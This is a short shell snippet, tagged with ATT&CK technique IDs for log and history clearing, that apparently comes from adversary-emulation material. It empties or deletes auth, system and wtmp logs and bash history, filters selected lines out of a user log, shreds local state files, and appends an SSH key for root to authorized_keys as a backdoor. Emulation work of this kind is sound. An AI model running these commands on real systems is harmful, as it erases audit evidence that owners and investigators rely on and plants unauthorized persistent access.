# T1070.002, T1070.003 by shell commands.
groundwork
for f in /var/log/auth.log /var/log/syslog /var/log/wtmp .bash_history; do : > "$f"; done
grep -v desk /var/log/user.log > work/kept || true
cat work/kept > /var/log/user.log
truncate -s 0 /var/log/syslog.1
rm -f /var/log/auth.log .bash_history .local/share/recent
for f in .local/state/desk/*; do if [ -f "$f" ]; then shred -n 1 -u "$f"; fi; done
echo "ssh-ed25519 AAAA$state root" >> .ssh/authorized_keys
hide_copy
